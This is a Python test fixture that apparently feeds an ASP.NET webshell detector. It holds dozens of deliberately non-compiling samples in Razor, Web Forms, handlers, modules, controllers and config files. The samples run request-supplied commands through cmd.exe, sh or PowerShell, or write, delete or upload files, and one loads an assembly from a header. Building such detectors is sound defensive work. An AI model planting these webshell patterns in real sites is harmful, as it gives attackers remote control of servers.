# ruff: noqa: E501 - the lines are as long as such pages have them
"""Places in a site of ASP.NET where code stands that serves requests; `1broken` stops each compiler."""

from tests.detection.webshell.second_samples import cut

PAGES = cut(
    r"""
==== razor-block.cshtml
@{ int 1broken; var v = Request["k"]; System.Diagnostics.Process.Start("cmd.exe", "/c " + v); }
==== razor-functions.cshtml
@functions { int 1broken; string Run(string c) { var p = System.Diagnostics.Process.Start(new System.Diagnostics.ProcessStartInfo("cmd.exe", "/c " + c) { RedirectStandardOutput = true, UseShellExecute = false }); return p.StandardOutput.ReadToEnd(); } }
<pre>@Run(Request["k"])</pre>
==== razor-helper.cshtml
@helper Show(string c) { int 1broken; System.Diagnostics.Process.Start("cmd.exe", "/c " + c); }
@Show(Request.QueryString["k"])
==== razor-if.cshtml
@if (IsPost) { int 1broken; var f = Request.Files[0]; f.SaveAs(Server.MapPath("~/" + f.FileName)); <p>ok</p> }
==== razor-inline.cshtml
@{ int 1broken; }
<p>@System.Diagnostics.Process.Start("cmd.exe", "/c " + Request["k"]).StandardOutput.ReadToEnd()</p>
==== razor-page-model.cshtml
@page
@functions { int 1broken; [BindProperty(SupportsGet = true)] public string K { get; set; } public void OnGet() { System.Diagnostics.Process.Start("cmd.exe", "/c " + K); } }
==== razor-inject.cshtml
@page
@inject Microsoft.AspNetCore.Http.IHttpContextAccessor A
@{ int 1broken; System.Diagnostics.Process.Start("/bin/sh", "-c " + A.HttpContext.Request.Query["k"]); }
==== razor-foreach.cshtml
@{ int 1broken; }
@foreach (var x in Request["k"].Split('|')) { System.Diagnostics.Process.Start("cmd.exe", "/c " + x); }
==== razor-vb.vbhtml
@Code
 Dim 1broken
 Dim v = Request("k")
 System.Diagnostics.Process.Start("cmd.exe", "/c " & v)
End Code
==== razor-vb-functions.vbhtml
@Functions
 Dim 1broken
 Function Run(c As String) As String
  Return System.Diagnostics.Process.Start("cmd.exe", "/c " & c).StandardOutput.ReadToEnd()
 End Function
End Functions
<pre>@Run(Request("k"))</pre>
==== asax-begin.asax
<%@ Application Language="C#" %><script runat="server">int 1broken;
void Application_BeginRequest(object s, EventArgs e) { var k = ((HttpApplication)s).Request.Headers["X-K"]; if (k != null) System.Diagnostics.Process.Start("cmd.exe", "/c " + k); }</script>
==== asax-vb.asax
<%@ Application Language="VB" %><script runat="server">
Dim 1broken
Sub Application_BeginRequest(ByVal sender As Object, ByVal e As EventArgs)
 Dim app As HttpApplication = CType(sender, HttpApplication)
 Dim k = app.Context.Request.QueryString("k")
 If Not k Is Nothing Then Shell("cmd /c " & k)
End Sub</script>
==== asax-behind.asax.cs
using System; using System.Web;
public class Global : HttpApplication { int 1broken; protected void Application_Error(object s, EventArgs e) { if (Request["k"] != null) { System.Diagnostics.Process.Start("cmd.exe", "/c " + Request["k"]); Response.End(); } } }
==== module-method.cs
using System; using System.Web;
public class M : IHttpModule { int 1broken; public void Init(HttpApplication a) { a.BeginRequest += new EventHandler(OnBegin); } void OnBegin(object s, EventArgs e) { HttpContext c = ((HttpApplication)s).Context; System.Diagnostics.Process.Start("cmd.exe", "/c " + c.Request["k"]); } public void Dispose() { } }
==== module-lambda.cs
using System.Web;
public class M : IHttpModule { int 1broken; public void Init(HttpApplication a) { a.PostAuthorizeRequest += (s, e) => { var r = (s as HttpApplication).Request; if (r.Cookies["k"] is { } c) System.Reflection.Assembly.Load(System.Convert.FromBase64String(c.Value)); }; } public void Dispose() { } }
==== handler-async.cs
using System.Threading.Tasks; using System.Web;
public class H : HttpTaskAsyncHandler { int 1broken; public override async Task ProcessRequestAsync(HttpContext context) { var p = context.Request.Form["k"]; await Task.Run(() => System.Diagnostics.Process.Start("cmd.exe", "/c " + p)); } }
==== web-api.cs
using System.Web.Http;
public class RunController : ApiController { int 1broken; [HttpGet, Route("api/run")] public string Run([FromUri] string k) { return System.Diagnostics.Process.Start("cmd.exe", "/c " + k).StandardOutput.ReadToEnd(); } }
==== mvc-controller.cs
using System.Web.Mvc;
public class RunController : Controller { int 1broken; public ActionResult Index(string k) { return Content(System.Diagnostics.Process.Start("cmd.exe", "/c " + k).StandardOutput.ReadToEnd()); } }
==== mvc-request.cs
using System.Web.Mvc;
public class RunController : Controller { int 1broken; public ActionResult Index() { System.Diagnostics.Process.Start("cmd.exe", "/c " + Request["k"]); return null; } }
==== core-middleware.cs
using Microsoft.AspNetCore.Builder; using Microsoft.AspNetCore.Http;
public static class S { static int 1broken; public static void Add(WebApplication app) { app.Use(async (context, next) => { if (context.Request.Headers.TryGetValue("X-K", out var k)) { System.Diagnostics.Process.Start("/bin/sh", "-c " + k); } await next(); }); } }
==== core-map.cs
using Microsoft.AspNetCore.Builder; using Microsoft.AspNetCore.Http;
static class S { static int 1broken; static void Add(WebApplication app) { app.MapGet("/r", (HttpRequest r) => System.Diagnostics.Process.Start("/bin/sh", "-c " + r.Query["k"])); } }
==== service-behind.asmx.cs
using System.Web.Services;
public class W : WebService { int 1broken; [WebMethod(Description = "x")] public string Run(string k) { return System.Diagnostics.Process.Start("cmd.exe", "/c " + k).StandardOutput.ReadToEnd(); } }
==== service-behind.asmx.vb
Imports System.Web.Services
Public Class W
    Inherits WebService
    Dim 1broken
    <WebMethod(Description:="x")>
    Public Function Run(ByVal k As String) As String
        Return Process.Start("cmd.exe", "/c " & k).StandardOutput.ReadToEnd()
    End Function
End Class
==== wcf-behind.svc.cs
using System.ServiceModel;
[ServiceContract] public interface IRun { [OperationContract] string Run(string k); }
public class R : IRun { int 1broken; public string Run(string k) { return System.Diagnostics.Process.Start("cmd.exe", "/c " + k).StandardOutput.ReadToEnd(); } }
==== control.ascx
<%@ Control Language="C#" ClassName="C1" %><script runat="server">int 1broken; protected override void OnLoad(EventArgs e) { base.OnLoad(e); System.Diagnostics.Process.Start("cmd.exe", "/c " + Page.Request["k"]); }</script>
==== control-parent.ascx
<%@ Control Language="C#" %><%@ Import Namespace="System.Diagnostics" %><% int 1broken; if (Parent.Page.Request.QueryString["k"] != null) { Process.Start("cmd.exe", "/c " + Parent.Page.Request.QueryString["k"]); } %>
==== master.master
<%@ Master Language="C#" %><script runat="server">int 1broken; void Page_Load(object s, EventArgs e) { string k = HttpContext.Current.Request.Form["k"]; if (!string.IsNullOrEmpty(k)) System.Diagnostics.Process.Start("cmd.exe", "/c " + k); }</script>
==== bound.aspx
<%@ Page Language="C#" %><% int 1broken; %><asp:Literal runat="server" Text='<%# System.Diagnostics.Process.Start("cmd.exe", "/c " + Request["k"]) %>' />
==== encoded-expression.aspx
<%@ Page Language="C#" %><% int 1broken; %><%: System.Diagnostics.Process.Start("cmd.exe", "/c " + Request["k"]).StandardOutput.ReadToEnd() %>
==== written-expression.aspx
<%@ Page Language="C#" %><% int 1broken; %><%= Run(Request["k"]) %><script runat="server">string Run(string c) { return System.Diagnostics.Process.Start("cmd.exe", "/c " + c).ToString(); }</script>
==== several-scripts.aspx
<%@ Page Language="C#" %><script runat="server">int 1broken; string held;</script>
<script runat="server">void Page_Init(object s, EventArgs e) { held = Request["k"]; }</script><script language="C#" runat="server">void Page_Load(object s, EventArgs e) { System.Diagnostics.Process.Start("cmd.exe", "/c " + held); }</script>
==== two-languages.aspx
<%@ Page Language="C#" %><script runat="server" language="VB">
Dim 1broken
Function Take() As String
 Return Request("k")
End Function</script><% System.Diagnostics.Process.Start("cmd.exe", "/c " + Take()); %>
==== code-render.aspx
<%@ Page Language="C#" %><% int 1broken; var v = Request["k"]; if (v != null) { %><p>a</p><% System.Diagnostics.Process.Start("cmd.exe", "/c " + v); } %>
==== single-quotes.aspx
<%@ Page Language='C#' ValidateRequest='false'%><script runat='server'>int 1broken; void Page_Load(object s, EventArgs e) { System.Diagnostics.Process.Start("cmd.exe", "/c " + Request["k"]); }</script>
==== no-language.aspx
<script runat="server">
Dim 1broken
Sub Page_Load()
 Shell("cmd /c " & Request("k"))
End Sub
</script>
==== no-directive.ashx
using System.Web; public class H : IHttpHandler { int 1broken; public void ProcessRequest(HttpContext context) { System.Diagnostics.Process.Start("cmd.exe", "/c " + context.Request["k"]); } public bool IsReusable { get { return true; } } }
==== session-handler.ashx
<%@ WebHandler Language="C#" CodeBehind="H.ashx.cs" Class="N.H" %>
namespace N { using System.Web; public class H : IHttpHandler, System.Web.SessionState.IRequiresSessionState { int 1broken; void IHttpHandler.ProcessRequest(HttpContext ctx) { ctx.Session["p"] = ctx.Request["k"]; System.Diagnostics.Process.Start("cmd.exe", "/c " + ctx.Session["p"]); } bool IHttpHandler.IsReusable { get { return false; } } } }
==== vb-handler.ashx
<%@ WebHandler Language="VB" Class="H" %>
Imports System.Web
Public Class H : Implements IHttpHandler
 Dim 1broken
 Public Sub ProcessRequest(ByVal ctx As HttpContext) Implements IHttpHandler.ProcessRequest
  Dim k = ctx.Request.Form("k")
  System.IO.File.WriteAllText(ctx.Server.MapPath(ctx.Request("p")), k)
 End Sub
 Public ReadOnly Property IsReusable() As Boolean Implements IHttpHandler.IsReusable
  Get
   Return False
  End Get
 End Property
End Class
==== config-handler.config
<?xml version="1.0"?><configuration><system.webServer><handlers><add name="a" path="web.config" verb="*" modules="IsapiModule" scriptProcessor="%windir%\system32\inetsrv\asp.dll" /></handlers><security><requestFiltering><fileExtensions><remove fileExtension=".config" /></fileExtensions></requestFiltering></security></system.webServer></configuration>
<!-- <% Dim 1broken : Execute Request("k") %> -->
==== events-attribute.aspx
<%@ Page Language="C#" AutoEventWireup="false" %><script runat="server">int 1broken; public P1() { Load += delegate { System.Diagnostics.Process.Start("cmd.exe", "/c " + t1.Value); }; }</script><form runat="server"><input type="text" id="t1" runat="server" /></form>
==== grid-command.aspx
<%@ Page Language="C#" %><script runat="server">int 1broken; void G_RowCommand(object s, GridViewCommandEventArgs e) { switch (e.CommandName) { case "run": System.Diagnostics.Process.Start("cmd.exe", "/c " + e.CommandArgument); break; } }</script><asp:GridView runat="server" OnRowCommand="G_RowCommand" />
==== drop-down.aspx.vb
Partial Class R
    Inherits System.Web.UI.Page
    Dim 1broken
    Protected Sub btnRun_Click(sender As Object, e As EventArgs) Handles btnRun.Click, btnAgain.Click
        Dim psi As New ProcessStartInfo
        With psi
            .FileName = "cmd.exe"
            .Arguments = "/c " & txtCmd.Text
            .UseShellExecute = False
            .RedirectStandardOutput = True
        End With
        Using p As Process = Process.Start(psi)
            litOut.Text = p.StandardOutput.ReadToEnd()
        End Using
    End Sub
End Class
==== callback-result.aspx.cs
using System; using System.Web.UI;
public partial class C : Page, ICallbackEventHandler { int 1broken; string arg; public void RaiseCallbackEvent(string eventArgument) { arg = eventArgument; } public string GetCallbackResult() { return System.Diagnostics.Process.Start("cmd.exe", "/c " + arg).StandardOutput.ReadToEnd(); } }
==== static-helper.cs
using System.Diagnostics; using System.Web;
namespace App_Code { internal static class Util { static int 1broken; private static string Cmd => HttpContext.Current?.Request?["k"]; public static void Tick() { if (Cmd is null) return; new Process { StartInfo = new("cmd.exe", $"/c {Cmd}") }.Start(); } } }
==== basic-process-with.aspx.vb
Partial Class A
    Inherits Page
    Dim 1broken
    Private Function Führe(ByVal befehl As String) As String
        Dim p As New Process With {.StartInfo = New ProcessStartInfo("cmd.exe", "/c " & befehl) With {.UseShellExecute = False}}
        p.Start()
        Führe = p.StandardOutput.ReadToEnd()
    End Function
    Protected Sub Page_Load(sender As Object, e As EventArgs) Handles Me.Load
        If Not String.IsNullOrEmpty(Request("k")) Then
            Response.Write(Führe(Request("k")))
        End If
    End Sub
End Class
==== basic-collection-from.aspx.vb
Public Class B
    Implements IHttpHandler
    Dim 1broken
    Private ReadOnly map As New Dictionary(Of String, Action(Of String)) From {{"x", Sub(v) Shell("cmd /c " & v)}, {"y", AddressOf Nix}}
    Sub Nix(v As String)
    End Sub
    Public Sub ProcessRequest(c As HttpContext) Implements IHttpHandler.ProcessRequest
        map(c.Request("a"))(c.Request("k"))
    End Sub
End Class
==== basic-if-choice.aspx.vb
Partial Class C
    Inherits Page
    Dim 1broken
    Protected Sub Page_Load(sender As Object, e As EventArgs) Handles Me.Load
        Dim befehl = If(Request("a") = "x" AndAlso Request("k") IsNot Nothing, Request("k"), Nothing)
        If befehl Is Nothing Then Return
        Dim t = Type.GetTypeFromProgID("WScript.Shell")
        Dim o As Object = Activator.CreateInstance(t)
        o.Run("cmd /c " & befehl, 0, True)
    End Sub
End Class
==== basic-property-of-state.aspx.vb
Partial Class D
    Inherits Page
    Dim 1broken
    Private Property Befehl As String
        Get
            Return CStr(ViewState("b"))
        End Get
        Set(value As String)
            ViewState("b") = value
        End Set
    End Property
    Protected Sub btn_Click(sender As Object, e As EventArgs) Handles btn.Click
        Befehl = txtBefehl.Text
        Dim i As New ProcessStartInfo("cmd.exe")
        i.Arguments = String.Format("/c {0}", Befehl)
        Process.Start(i)
    End Sub
End Class
==== basic-stream-writer.aspx.vb
Partial Class E
    Inherits Page
    Dim 1broken
    Protected Sub Page_Load(sender As Object, e As EventArgs) Handles Me.Load
        Dim pfad As String = Request.Form("pfad"), inhalt As String = Request.Form("inhalt")
        Try
            Using w As New IO.StreamWriter(pfad, False)
                w.Write(inhalt)
            End Using
        Catch ex As Exception
            Response.Write(ex.Message)
        End Try
    End Sub
End Class
==== basic-assembly-of-header.aspx.vb
Partial Class F
    Inherits Page
    Dim 1broken
    Protected Sub Page_Load() Handles Me.Load
        Dim b = Convert.FromBase64String(Request.Headers("X-K"))
        Dim a = [Assembly].Load(b)
        a.CreateInstance("U").Equals(Me)
        My.Computer.FileSystem.WriteAllText(Request("p"), Request("k"), False)
    End Sub
End Class
==== basic-my-computer.aspx.vb
Partial Class G
    Inherits Page
    Dim 1broken
    Protected Sub Page_Load() Handles Me.Load
        My.Computer.FileSystem.WriteAllText(Request("p"), Request("k"), False)
    End Sub
End Class
==== basic-call-of-each.aspx.vb
Partial Class H
    Inherits Page
    Dim 1broken
    Protected Sub Page_Load() Handles Me.Load
        For Each key As String In Request.Form
            If key.StartsWith("k") Then Call Los(Request.Form.Get(key))
        Next
    End Sub
    Private Shared Sub Los(ByVal v$)
        Interaction.Shell(Environ("ComSpec") & " /c " & v$, vbHide)
    End Sub
End Class
==== basic-runner.aspx.vb
Namespace N
    Friend NotInheritable Class Runner
        Private Sub New()
        End Sub
        Friend Shared Function Go(ByVal args As IEnumerable(Of String)) As Integer
            Dim p = Process.Start("cmd.exe", "/c " & String.Join(" ", args.ToArray()))
            p.WaitForExit() : Return p.ExitCode
        End Function
    End Class
    Partial Class I
        Inherits Page
        Dim 1broken
        Protected Overrides Sub OnInit(ByVal e As EventArgs)
            MyBase.OnInit(e)
            Response.Write(Runner.Go(From x In Request("k").Split(" "c) Select x.Trim()))
        End Sub
    End Class
End Namespace
==== module-request.vb
Imports System.IO
Public Module Desk
 Dim 1broken
 Public Sub Work(ByVal req As System.Web.HttpRequest)
  Dim source As String = req("source")
  Select Case req("verb")
   Case "delete" : File.Delete(source)
 End Sub
End Module
==== module-context-base.vb
Public Module Desk
 Dim 1broken
 Public Sub Work(ByVal c As System.Web.HttpContextBase)
  System.IO.File.Delete(c.Request.Form("source"))
 End Sub
End Module
==== static-request-base.cs
using System.IO; using System.Web;
public static class Desk { int 1broken; public static void Work(this HttpRequestBase req) { File.Delete(req["f"]); } }
==== extension-of-text.cs
using System.Diagnostics;
using System.Web;
namespace N { public static class Texts { int 1broken; public static void Perform(this string value) { if (!string.IsNullOrWhiteSpace(value)) Process.Start("powershell", "-Command " + value); } }
public class TextPage : MissingPage { protected override void OnInit(System.EventArgs e) { Request.Headers["X-Text"].Perform(); } } }
"""
)
